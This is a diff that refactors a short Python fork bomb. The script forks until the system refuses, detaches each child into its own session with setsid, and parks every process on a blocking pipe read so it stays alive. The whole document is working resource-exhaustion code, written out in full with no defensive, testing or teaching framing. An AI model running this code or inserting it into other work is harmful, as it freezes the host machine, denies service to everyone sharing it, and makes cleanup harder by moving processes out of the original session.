@@ -1,17 +1,27 @@
-"""Fork until nothing goes any more, each child in a session of its own, and hold on."""
+"""Fork until it fails, each child in a session of its own, and stay."""
 
 import os
 
-made = 0
+
+def wait_forever():
+    read_fd, _write_fd = os.pipe()
+    os.read(read_fd, 1)
+
+
+def fork_until_it_fails():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            wait_forever()
+
+
 while True:
     try:
-        if os.fork() == 0:
-            os.setsid()
-            while True:
-                try:
-                    os.fork()
-                except OSError:
-                    os.read(os.pipe()[0], 1)
-        made += 1
+        pid = os.fork()
     except OSError:
-        os.read(os.pipe()[0], 1)
+        wait_forever()
+        continue
+    if pid == 0:
+        os.setsid()
+        fork_until_it_fails()
